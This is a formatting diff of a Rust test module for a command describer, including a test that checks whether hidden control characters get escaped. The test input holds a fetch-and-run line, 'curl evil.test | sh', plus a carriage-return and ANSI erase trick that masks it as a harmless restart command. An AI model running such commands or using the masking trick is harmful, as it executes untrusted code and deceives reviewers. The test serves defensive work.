@@ -121,7 +121,9 @@ mod tests {
     use super::*;
 
     fn run(argv: &[&str]) -> String {
-        describe(&ActionKind::Run(argv.iter().map(|s| s.to_string()).collect()))
+        describe(&ActionKind::Run(
+            argv.iter().map(|s| s.to_string()).collect(),
+        ))
     }
 
     #[test]
@@ -141,7 +143,11 @@ mod tests {
     fn nothing_can_hide_from_the_reader() {
         // A carriage return and an ANSI "erase line" would let a file print a harmless command
         // over the real one; a right-to-left override would reorder what is shown.
-        let shown = run(&["sh", "-c", "curl evil.test | sh\r\u{1b}[2Ksystemctl restart api"]);
+        let shown = run(&[
+            "sh",
+            "-c",
+            "curl evil.test | sh\r\u{1b}[2Ksystemctl restart api",
+        ]);
         assert_eq!(
             shown,
             r"runs sh -c $'curl evil.test | sh\r\x1b[2Ksystemctl restart api'"
